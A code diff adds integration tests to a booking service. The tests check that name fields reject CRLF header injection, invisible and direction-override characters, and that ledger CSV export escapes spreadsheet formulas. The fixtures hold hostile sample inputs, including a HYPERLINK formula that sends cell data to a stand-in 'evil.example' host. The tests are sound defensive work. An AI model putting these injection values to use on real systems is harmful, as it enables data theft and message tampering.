@@ -1,7 +1,10 @@
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { depsFromEnv } from '../../functions/core/deps.js';
+import { topUpMoney } from '../../functions/core/wallets.js';
 import type { LocalStack } from '../../lib/local/stack.js';
 import { call, startTestStack } from '../support/local-stack.js';
+import { ops } from '../support/ops.js';
 
 let stack: LocalStack;
 let base: string;
@@ -196,3 +199,68 @@ describe('the agency flow', () => {
     expect((await fetch(`${base}/book/not-a-real-token`)).status).toBe(404);
   });
 });
+
+describe('hostile text', () => {
+  const HOSTILE = 'Must not contain control or invisible formatting characters';
+
+  it('refuses control and invisible formatting characters in the candidate\'s names, pointing at the field', async () => {
+    const held = await holdFirstFree(riverside);
+    const response = await call(`${base}/bookings`, {
+      token: riverside,
+      body: { ...candidate, first_name: 'Eve\r\nBcc: x@evil.example', last_name: 'Smith\u202Egnp.exe', job_role: 'Nurse\u200B', hold_hash: held.hold_hash, pay_option: 'balance' },
+    });
+    expect(response.status).toBe(422);
+    expect(response.body.errors).toEqual([
+      { pointer: '/first_name', detail: HOSTILE },
+      { pointer: '/last_name', detail: HOSTILE },
+      { pointer: '/job_role', detail: HOSTILE },
+    ]);
+    expect((await call(`${base}/timeslots/hold/${held.hold_hash}`, { method: 'DELETE', token: riverside })).status).toBe(204);
+  });
+
+  it('the booking page says so next to the field, and books nothing', async () => {
+    const { booking_url } = (await call(`${base}/client/booking-url`, { token: riverside })).body;
+    const page = await (await fetch(`${booking_url}?interview_type_id=1`)).text();
+    const slot = /name="slot" id="[^"]+" value="([^"]+)"/.exec(page)![1]!;
+    const before = (await call(`${base}/bookings?status=pending_payment&limit=100`, { token: riverside })).body.data.length;
+    const form = new URLSearchParams({ interview_type_id: '1', slot, first_name: 'Eve\r\nBcc: x@evil.example', last_name: 'Peep\u0000', email: 'eve@example.org', phone: '+447700900998', job_role: 'RMN', nmc_number: '99X1234Y' });
+    const posted = await fetch(booking_url, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form.toString(), redirect: 'manual' });
+    expect(posted.status).toBe(422);
+    const html = await posted.text();
+    expect(html).toMatch(new RegExp(`id="first_name-error">${HOSTILE}<`));
+    expect(html).toMatch(new RegExp(`id="last_name-error">${HOSTILE}<`));
+    expect((await call(`${base}/bookings?status=pending_payment&limit=100`, { token: riverside })).body.data.length).toBe(before);
+  });
+});
+
+describe('the ledger CSV', () => {
+  it('neutralises text cells a spreadsheet would run as formulas, and leaves negative amounts as numbers', async () => {
+    const held = await holdFirstFree(northwind);
+    const booked = await call(`${base}/bookings`, { token: northwind, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'credits' } });
+    expect(booked.status).toBe(201);
+    const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', 'Plain note'];
+    // Operator notes, as `ops money topup --reason` writes them.
+    for (const note of notes) await topUpMoney(depsFromEnv(), 'demo-riverside', 1, note);
+    const csv = await ops(stack, 'ledger', '--month', new Date().toISOString().slice(0, 7), '--csv');
+    expect(csv.status).toBe(0);
+    const lines = csv.stdout.split('\r\n');
+    expect(lines[0]).toBe('id,created_at,client_id,kind,amount,unit,balance_after,booking_id,interview_type_id,interview_type_name,note');
+    // The debit: a negative number, unquoted and unprefixed.
+    expect(lines.find((l) => l.includes(`,credit_debit,`) && l.includes(`,${booked.body.id},`))).toMatch(/,demo-northwind,credit_debit,-1,credits,\d+,/);
+    // balance_after, then empty booking_id, interview_type_id and interview_type_name, then the note.
+    const noteOf = (line: string) => line.slice(line.indexOf(',,,,') + 4);
+    const topups = lines.filter((l) => l.includes(',demo-riverside,money_topup,1,GBP,'));
+    expect(topups.map(noteOf)).toEqual(
+      expect.arrayContaining([
+        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\tTabbed",
+        '"\'\rReturned"',
+        'Plain note',
+      ]),
+    );
+  }, 90_000);
+});
+
